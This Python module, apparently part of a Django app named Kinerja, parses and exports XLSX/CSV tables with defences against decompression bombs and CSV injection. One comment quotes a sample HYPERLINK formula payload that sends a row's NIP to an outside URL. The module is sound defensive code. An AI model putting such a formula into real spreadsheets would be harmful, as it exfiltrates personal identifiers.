"""Reading and writing tables (XLSX and CSV) for imports, templates and exports."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from typing import Any

from django.conf import settings
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font, PatternFill
from openpyxl.utils import get_column_letter

from .numbers import format_number

XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MIME = "text/csv"


class TableError(ValueError):
    """The file as a whole cannot be read (wrong type, no header, empty)."""


@dataclass(frozen=True)
class Table:
    headers: list[str]
    rows: list[tuple[int, dict[str, str]]]  # (row number as the user sees it, values by header)
    # (row number, header) of the cells the workbook stored as numbers, not text. An identifier
    # in such a cell may already be wrong: Excel keeps 15 significant digits, so an 18-digit
    # NIP typed into a General cell is rounded before the file reaches us (…031 → …000).
    numeric: frozenset[tuple[int, str]] = frozenset()

    def is_number(self, row: int, header: str) -> bool:
        return (row, header) in self.numeric


def identifier_as_number_message(column: str) -> str:
    """The row error for an identifier (NIP, code) that the workbook holds as a number."""
    return (
        f"Kolom {column} berisi angka, bukan teks. Excel menyimpan angka hanya sampai 15 digit, "
        f"sehingga {column} yang panjang bisa berubah tanpa terlihat. Format kolom {column} "
        "sebagai Teks (Format Cells → Text) atau awali isinya dengan tanda petik ('), lalu "
        "ketik ulang dan unggah lagi."
    )


def too_long_message(column: str, limit: int, length: int) -> str:
    """The row error for a value longer than its column can hold (never cut silently)."""
    return f"{column} terlalu panjang: {length} karakter, maksimal {limit}."


def _cell_text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value).strip()


def normalise_header(text: str) -> str:
    return " ".join(str(text or "").replace("*", "").split()).lower()


def read_table(data: bytes, filename: str, *, max_rows: int | None = None) -> Table:
    """Parse an uploaded XLSX or CSV into rows keyed by normalised header; blank rows skipped.

    The type is decided by content (an XLSX is a ZIP archive), not only by the file name.
    `max_rows` overrides IMPORT_MAX_ROWS for a kind of file that is larger by nature (a month
    of attendance: one row per person per working day).
    """
    is_zip = data[:4] == b"PK\x03\x04"
    if filename.lower().endswith(".xlsx") or is_zip:
        if not is_zip:
            raise TableError("Berkas bukan XLSX yang valid.")
        return _read_xlsx(data, max_rows)
    if filename.lower().endswith(".csv") or not is_zip:
        return _read_csv(data, max_rows)
    raise TableError("Format berkas tidak dikenal; gunakan XLSX atau CSV.")


def limits() -> tuple[int, int]:
    """(rows, columns) a file may hold: settings IMPORT_MAX_ROWS and IMPORT_MAX_COLUMNS."""
    return (
        int(getattr(settings, "IMPORT_MAX_ROWS", 60_000)),
        int(getattr(settings, "IMPORT_MAX_COLUMNS", 60)),
    )


def bounded_row(raw: Sequence[Any], max_columns: int) -> Sequence[Any]:
    """A row without its trailing empty cells, refused when wider than the limit."""
    end = len(raw)
    while end and (raw[end - 1] is None or raw[end - 1] == ""):
        end -= 1
    if end > max_columns:
        raise TableError(
            f"Berkas berisi lebih dari {format_number(max_columns)} kolom; periksa bahwa "
            "lembar pertama adalah tabel impor."
        )
    return raw[:end]


def repeated_headers(headers: Sequence[str]) -> str | None:
    """The problem with a header row that names a column twice (reading one copy would drop
    the other's values without a word), or None."""
    named = [h for h in headers if h]
    twice = sorted({h for h in named if named.count(h) > 1})
    if not twice:
        return None
    return (
        "Judul kolom muncul lebih dari sekali: "
        + ", ".join(f"'{h}'" for h in twice)
        + ". Hapus atau ganti nama kolom yang ganda, lalu unggah lagi. Tidak ada data yang diubah."
    )


def cells_beyond_headers(number: int, cells: Sequence[str], headers: Sequence[str]) -> str | None:
    """The problem with row `number` when it holds a value under no header (an unquoted comma
    in an address shifts the rest of the row; a note typed beside the table), or None: such a
    value would otherwise be dropped without a word."""
    for i, cell in enumerate(cells):
        if cell and (i >= len(headers) or not headers[i]):
            return (
                f"Baris {number} berisi isian di kolom ke-{i + 1} yang tidak berjudul "
                f"('{cell[:40]}'). Jika isian memuat tanda koma atau titik koma, apit isian itu "
                "dengan tanda kutip; jika kolom itu memang perlu, beri judul. Tidak ada data "
                "yang diubah."
            )
    return None


def _build(
    raw_rows: Iterable[Sequence[Any]], first_row_number: int = 1, max_rows: int | None = None
) -> Table:
    """Rows read as a stream and refused past the limits (a small XLSX can expand to hundreds
    of thousands of rows): the file never sits in memory beyond what the limits allow."""
    default_rows, max_columns = limits()
    max_rows = default_rows if max_rows is None else max_rows
    iterator: Iterator[Sequence[Any]] = iter(raw_rows)
    headers: list[str] = []
    number = first_row_number - 1
    for raw in iterator:
        number += 1
        cells = [_cell_text(v) for v in bounded_row(raw, max_columns)]
        if any(cells):
            headers = [normalise_header(c) for c in cells]
            break
    if not headers:
        raise TableError("Berkas kosong: baris judul kolom tidak ditemukan.")
    if problem := repeated_headers(headers):
        raise TableError(problem)
    rows: list[tuple[int, dict[str, str]]] = []
    numeric: set[tuple[int, str]] = set()
    for raw in iterator:
        number += 1
        raw = bounded_row(raw, max_columns)
        cells = [_cell_text(v) for v in raw]
        if not any(cells):
            continue
        if problem := cells_beyond_headers(number, cells, headers):
            raise TableError(problem)
        if len(rows) == max_rows:
            raise TableError(
                f"Berkas berisi lebih dari {format_number(max_rows)} baris data; bagi menjadi "
                "beberapa berkas lalu impor satu per satu. Tidak ada data yang diubah."
            )
        rows.append(
            (number, {h: (cells[i] if i < len(cells) else "") for i, h in enumerate(headers) if h})
        )
        numeric.update(
            (number, headers[i])
            for i, value in enumerate(raw)
            if i < len(headers)
            and headers[i]
            and isinstance(value, int | float)
            and not isinstance(value, bool)
        )
    return Table(headers=[h for h in headers if h], rows=rows, numeric=frozenset(numeric))


XLSX_UNREADABLE = "Berkas XLSX tidak dapat dibaca; pastikan disimpan sebagai .xlsx."
# Below this an entry's compression ratio is not looked at: small XML parts (styles, themes)
# pack well and cost nothing.
_RATIO_FLOOR_BYTES = 1024 * 1024


def check_xlsx_archive(data: bytes) -> None:
    """Refuse an XLSX whose archive would unpack to more than IMPORT_MAX_UNPACKED_BYTES, or
    whose large entries are packed suspiciously well (IMPORT_MAX_COMPRESSION_RATIO): a
    "decompression bomb" of a few hundred kilobytes otherwise grows the worker by gigabytes
    before any row limit is reached (openpyxl holds shared strings and a cell's text whole).

    The sizes are those the archive declares; Python's zipfile, which openpyxl reads through,
    never returns more than an entry's declared size, so a lying archive gains nothing. A
    damaged archive gets the same message as any unreadable XLSX."""
    limit = int(getattr(settings, "IMPORT_MAX_UNPACKED_BYTES", 200 * 1024 * 1024))
    max_ratio = int(getattr(settings, "IMPORT_MAX_COMPRESSION_RATIO", 100))
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            entries = archive.infolist()
    except Exception as exc:  # BadZipFile, but also struct/value errors on a mangled directory
        raise TableError(XLSX_UNREADABLE) from exc
    total = sum(entry.file_size for entry in entries)
    suspicious = any(
        entry.file_size > _RATIO_FLOOR_BYTES
        and entry.file_size > max_ratio * max(entry.compress_size, 1)
        for entry in entries
    )
    if total > limit:
        raise TableError(
            f"Isi berkas XLSX terlalu besar setelah dibuka ({format_number(total // 2**20)} MB, "
            f"maksimal {format_number(limit // 2**20)} MB). Hapus isian yang sangat panjang "
            "atau bagi menjadi beberapa berkas. Tidak ada data yang diubah."
        )
    if suspicious:
        raise TableError(
            "Berkas XLSX ini dipadatkan secara tidak wajar (isinya berulang-ulang, misalnya "
            "satu sel berisi teks yang sangat panjang). Periksa isinya, lalu simpan ulang dari "
            "Excel sebagai Buku Kerja Excel (.xlsx). Tidak ada data yang diubah."
        )


def open_xlsx(data: bytes) -> Any:
    """openpyxl's read-only workbook of an uploaded XLSX, after `check_xlsx_archive`; every
    upload is opened through here. A TableError for a file that cannot be read."""
    check_xlsx_archive(data)
    try:
        return load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    except Exception as exc:  # openpyxl raises many types for a damaged file
        raise TableError(XLSX_UNREADABLE) from exc


def _read_xlsx(data: bytes, max_rows: int | None = None) -> Table:
    workbook = open_xlsx(data)
    try:
        sheet = workbook.worksheets[0]
        return _build(sheet.iter_rows(values_only=True), max_rows=max_rows)
    finally:
        workbook.close()


def _read_csv(data: bytes, max_rows: int | None = None) -> Table:
    for encoding in ("utf-8-sig", "cp1252"):
        try:
            text = data.decode(encoding)
            break
        except UnicodeDecodeError:
            continue
    else:  # pragma: no cover - cp1252 decodes nearly anything
        raise TableError("Berkas CSV tidak dapat dibaca (encoding tidak dikenal).")
    if "\x00" in text:
        raise TableError("Berkas bukan CSV teks yang valid.")
    # The separator is the header line's: Excel in an Indonesian locale saves with ";", and
    # the data rows' own commas (addresses, titles such as "S.Kep., Ners") must not outvote it.
    header_line = next((line for line in io.StringIO(text, newline="") if line.strip()), "")
    delimiter = ";" if header_line.count(";") > header_line.count(",") else ","
    # newline="": the csv module sees the file's own line endings, so a file saved with
    # CR alone (Excel for Mac's "CSV (Macintosh)") and a line break inside quotes both read.
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return _build(_csv_rows(reader), max_rows=max_rows)


def _csv_rows(reader: Any) -> Iterator[list[str]]:
    """The reader's rows, its errors (a damaged file, a field past the csv module's limit of
    131,072 characters) turned into a TableError the person can act on."""
    try:
        yield from reader
    except csv.Error as exc:
        raise TableError(
            f"Berkas CSV rusak di sekitar baris {reader.line_num} (misalnya tanda kutip yang "
            "tidak ditutup, atau satu isian yang sangat panjang). Simpan ulang dari Excel "
            "sebagai CSV atau XLSX, lalu unggah lagi. Tidak ada data yang diubah."
        ) from exc


# --- Writing: text stays text ----------------------------------------------------------------
#
# A cell a spreadsheet would run as a formula is the "CSV injection" of OWASP: a name typed as
# =HYPERLINK("http://…?"&A2, "klik") sends the row's NIP away when an administrator clicks the
# exported file. Kinerja writes no formula of its own, so every value is written as text.

_PLAIN_SIGNED = re.compile(r"[+-][\d\s().,/+-]*")


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would read `text` as a formula: it starts with "=" or "@", a tab
    or a carriage return, or with "+" or "-" followed by more than a number or a telephone
    number ("+62 812-3456-7890" and "-2,5" stay as they are)."""
    if not text:
        return False
    if text[0] in "=@\t\r":
        return True
    return text[0] in "+-" and not _PLAIN_SIGNED.fullmatch(text)


def formulas_as_text(workbook: Workbook) -> None:
    """Every cell openpyxl took for a formula (a string starting with "=") written as the
    text it is. For the workbooks built in memory; a write-only sheet uses `text_cell`."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"


def text_cell(sheet: Any, value: Any) -> Any:
    """`value` for a write-only sheet's row: a string openpyxl would take for a formula comes
    back as a text cell, anything else as it is."""
    if isinstance(value, str) and value.startswith("="):
        cell = WriteOnlyCell(sheet, value=value)
        cell.data_type = "s"
        return cell
    return value


def csv_text(value: Any) -> Any:
    """A CSV cell: a formula-like text gets a leading apostrophe, the mark that tells a
    spreadsheet to show what follows as text (a CSV has no cell types to say so)."""
    if isinstance(value, str) and formula_like(value):
        return "'" + value
    return value


def xlsx_bytes(sheets: Sequence[tuple[str, Sequence[str], Iterable[Sequence[Any]]]]) -> bytes:
    """A workbook with one sheet per (title, headers, rows); headers bold, columns sized."""
    workbook = Workbook(write_only=False)
    workbook.remove(workbook.active)
    for title, headers, rows in sheets:
        sheet = workbook.create_sheet(title=title[:31])
        sheet.append(list(headers))
        widths = [len(h) for h in headers]
        for row in rows:
            values = list(row)
            sheet.append(values)
            for i, v in enumerate(values[: len(widths)]):
                widths[i] = max(widths[i], min(len(str(v or "")), 60))
        for i, width in enumerate(widths, start=1):
            sheet.column_dimensions[get_column_letter(i)].width = width + 2
            cell = sheet.cell(row=1, column=i)
            cell.font = Font(bold=True)
            cell.fill = PatternFill("solid", fgColor="DDEBF7")
        sheet.freeze_panes = "A2"
    formulas_as_text(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_bytes(headers: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(headers)
    for row in rows:
        writer.writerow(["" if v is None else csv_text(v) for v in row])
    return buffer.getvalue().encode("utf-8-sig")
